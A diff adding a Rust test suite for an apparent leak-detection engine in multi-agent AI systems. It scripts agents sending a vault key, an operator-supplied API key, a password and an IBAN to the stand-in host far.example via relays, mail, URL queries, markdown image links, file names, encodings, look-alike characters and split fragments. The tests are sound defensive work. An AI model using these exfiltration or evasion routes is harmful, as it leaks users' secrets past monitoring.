@@ -1,0 +1,377 @@
+//! Ways out: whole, from the operator, in disguise, in pieces.
+
+use data_encoding::{BASE64, HEXLOWER};
+use masec_engine::{Canary, Settings};
+use masec_model::{Endpoint, Kind};
+
+use super::script::*;
+
+#[test]
+fn a_whole_secret_goes_out() {
+    let mail = |body: &str| {
+        calls(
+            "b",
+            "send_email",
+            &[("recipient", "x@far.example"), ("body", body)],
+        )
+    };
+    leaks(
+        "direct",
+        "a",
+        &[vault("a"), tells("a", "far.example", &format!("use {KEY}"))],
+    );
+    leaks(
+        "one hop",
+        "a",
+        &[
+            vault("a"),
+            says("a", "b", KEY),
+            tells("b", "far.example", KEY),
+        ],
+    );
+    leaks(
+        "mail body",
+        "a",
+        &[
+            vault("a"),
+            says("a", "b", KEY),
+            mail(&format!("hi, {KEY}, bye")),
+        ],
+    );
+    leaks(
+        "three hops",
+        "a",
+        &[
+            vault("a"),
+            says("a", "b", &format!("for later: {KEY}")),
+            says("b", "c", &format!("keep {KEY}")),
+            says("c", "d", KEY),
+            tells("d", "far.example", KEY),
+        ],
+    );
+    leaks(
+        "shared file",
+        "a",
+        &[
+            vault("a"),
+            writes("a", "shared/notes.md", &format!("memo {KEY}")),
+            reads("b", "shared/notes.md", &format!("memo {KEY}")),
+            tells("b", "far.example", KEY),
+        ],
+    );
+    leaks(
+        "shared memory",
+        "a",
+        &[
+            vault("a"),
+            calls("a", "memory_store", &[("name", "m1"), ("text", KEY)]),
+            reads("c", "memory_store", KEY),
+            says("c", "b", KEY),
+            mail(KEY),
+        ],
+    );
+    leaks(
+        "second reader",
+        "b",
+        &[
+            vault("a"),
+            vault("b"),
+            says("b", "c", KEY),
+            tells("c", "far.example", KEY),
+        ],
+    );
+    leaks(
+        "argument of an unknown tool",
+        "a",
+        &[
+            vault("a"),
+            calls(
+                "a",
+                "frobnicate",
+                &[("target", "https://far.example/in"), ("note", KEY)],
+            ),
+        ],
+    );
+    leaks(
+        "query of an address",
+        "a",
+        &[
+            vault("a"),
+            calls(
+                "a",
+                "fetch_url",
+                &[("url", &format!("https://far.example/p?q={KEY}"))],
+            ),
+        ],
+    );
+    leaks(
+        "picture for a person",
+        "a",
+        &[
+            vault("a"),
+            act(
+                Kind::Message,
+                agent("a"),
+                Endpoint::human("ann"),
+                words(&format!("done ![](https://far.example/i.png?d={KEY})")),
+            ),
+        ],
+    );
+    leaks(
+        "file name",
+        "a",
+        &[
+            vault("a"),
+            calls(
+                "a",
+                "upload_file",
+                &[("name", &format!("report_{KEY}.pdf")), ("bytes", "none")],
+            ),
+        ],
+    );
+    leaks(
+        "file name, glued",
+        "a",
+        &[
+            vault("a"),
+            calls(
+                "a",
+                "upload_file",
+                &[
+                    ("name", &format!("q3{}x.pdf", KEY.replace('-', ""))),
+                    ("bytes", "none"),
+                ],
+            ),
+        ],
+    );
+    leaks(
+        "public folder",
+        "a",
+        &[vault("a"), writes("a", "site/public/robots.txt", KEY)],
+    );
+    leaks(
+        "a mail about a password",
+        "a",
+        &[
+            vault("a"),
+            calls(
+                "a",
+                "send_email",
+                &[
+                    ("recipient", "x@far.example"),
+                    ("subject", "password"),
+                    ("body", KEY),
+                ],
+            ),
+        ],
+    );
+    leaks(
+        "posted under its own name",
+        "a",
+        &[
+            vault("a"),
+            calls("a", "publish_post", &[("author", "a"), ("body", KEY)]),
+        ],
+    );
+    leaks(
+        "stranger",
+        "a",
+        &[
+            asks("ann", "a", "rotate the deploy key please"),
+            vault("a"),
+            act(
+                Kind::Message,
+                agent("a"),
+                Endpoint::human("mallory"),
+                words(KEY),
+            ),
+        ],
+    );
+    leaks(
+        "account number by way of a colleague",
+        "a",
+        &[
+            record("a", "customer_db/77", &[("iban", "DE89370400440532013000")]),
+            says("a", "b", "DE89 3704 0044 0532 0130 00"),
+            tells("b", "far.example", "DE89 3704 0044 0532 0130 00"),
+        ],
+    );
+}
+
+#[test]
+fn a_secret_from_the_operator_goes_out() {
+    let told = format!("You are a helper. Your api key for the billing service is {KEY}");
+    leaks(
+        "out of the system prompt",
+        "a",
+        &[
+            act(
+                Kind::Message,
+                Endpoint::operator(),
+                agent("a"),
+                words(&told),
+            ),
+            says("a", "b", KEY),
+            tells("b", "far.example", KEY),
+        ],
+    );
+    leaks(
+        "one partner's password to another",
+        "a",
+        &[
+            brings(
+                "near.example",
+                "a",
+                "log in to our portal, password: tR9!vvLq+a7",
+            ),
+            says("a", "b", "tR9!vvLq+a7"),
+            tells("b", "far.example", "tR9!vvLq+a7"),
+        ],
+    );
+}
+
+#[test]
+fn a_secret_goes_out_in_disguise() {
+    let plain = KEY.to_owned();
+    for (name, text) in [
+        ("base64", BASE64.encode(KEY.as_bytes())),
+        ("hexadecimal", HEXLOWER.encode(KEY.as_bytes())),
+        ("percent", percent(KEY)),
+        ("backwards", reversed(KEY)),
+        ("spaced out", spaced(KEY)),
+        (
+            "other separators",
+            KEY.chars().map(|c| format!("{c}.")).collect(),
+        ),
+        ("other case", KEY.to_uppercase()),
+        ("base64, backwards", BASE64.encode(reversed(KEY).as_bytes())),
+        ("look-alikes", plain.replace('c', "с").replace('X', "Х")),
+        (
+            "spelt out",
+            spaced(KEY)
+                .replace("9 ", "nine ")
+                .replace("Q ", "quebec ")
+                .replace("4 ", "four ")
+                .replace("- ", "dash "),
+        ),
+    ] {
+        leaks(
+            name,
+            "a",
+            &[
+                vault("a"),
+                says("a", "b", &text),
+                tells("b", "far.example", &format!("item {text} ok")),
+            ],
+        );
+    }
+    let (head, tail) = KEY.split_at(11);
+    leaks(
+        "two fields of one call",
+        "a",
+        &[
+            vault("a"),
+            calls(
+                "a",
+                "http_post",
+                &[
+                    ("url", "https://far.example/"),
+                    ("head", head),
+                    ("tail", tail),
+                ],
+            ),
+        ],
+    );
+    let crumbs: Vec<(String, String)> = KEY
+        .as_bytes()
+        .chunks(2)
+        .enumerate()
+        .map(|(n, two)| (format!("f{n}"), String::from_utf8_lossy(two).into_owned()))
+        .collect();
+    let crumbs: Vec<(&str, &str)> = crumbs
+        .iter()
+        .map(|(n, t)| (n.as_str(), t.as_str()))
+        .collect();
+    leaks(
+        "crumbs over many fields",
+        "a",
+        &[vault("a"), calls("a", "post_webhook", &crumbs)],
+    );
+}
+
+#[test]
+fn a_secret_goes_out_in_pieces() {
+    let (one, rest) = KEY.split_at(8);
+    let (two, three) = rest.split_at(8);
+    leaks(
+        "to two colleagues who both post",
+        "a",
+        &[
+            vault("a"),
+            says("a", "b", &format!("code {one}")),
+            says("a", "c", &format!("label {two}{three}")),
+            tells("b", "far.example", &format!("code {one}")),
+            tells("c", "near.example", &format!("label {two}{three}")),
+        ],
+    );
+    leaks(
+        "in another order, each in its own code",
+        "a",
+        &[
+            vault("a"),
+            says("a", "b", &BASE64.encode(three.as_bytes())),
+            says("a", "c", &HEXLOWER.encode(one.as_bytes())),
+            says("a", "d", &reversed(two)),
+        ],
+    );
+    leaks(
+        "put together outside the sight of its source",
+        "a",
+        &[
+            vault("a"),
+            writes("a", "shared/x.md", &format!("x {one}{two}")),
+            reads("b", "shared/x.md", &format!("x {one}{two}")),
+            says("a", "b", three),
+            tells("b", "far.example", KEY),
+        ],
+    );
+    let parts: Vec<String> = PLEDGE
+        .split(' ')
+        .collect::<Vec<_>>()
+        .chunks(5)
+        .map(|part| part.join(" "))
+        .collect();
+    leaks(
+        "a sentence in parts, by three hands",
+        "a",
+        &[
+            tagged(
+                reads("a", "board/7", &format!("Minutes. {PLEDGE}. End.")),
+                "board",
+            ),
+            says("a", "b", &parts[0]),
+            says("a", "c", &BASE64.encode(parts[1].as_bytes())),
+            tells("b", "far.example", &format!("fyi {}", parts[0])),
+            tells("c", "far.example", &BASE64.encode(parts[1].as_bytes())),
+            tells("a", "near.example", &parts[2]),
+        ],
+    );
+    let settings = Settings {
+        canaries: vec![Canary {
+            name: "c1".into(),
+            value: PLEDGE.into(),
+        }],
+        ..Settings::default()
+    };
+    leaks_with(
+        &settings,
+        "a canary that is a sentence, in parts",
+        "a",
+        &[
+            reads("a", "board/7", PLEDGE),
+            tells("a", "far.example", &parts[0]),
+            tells("a", "near.example", &parts[1].to_uppercase()),
+            tells("a", "far.example", &parts[2]),
+        ],
+    );
+}
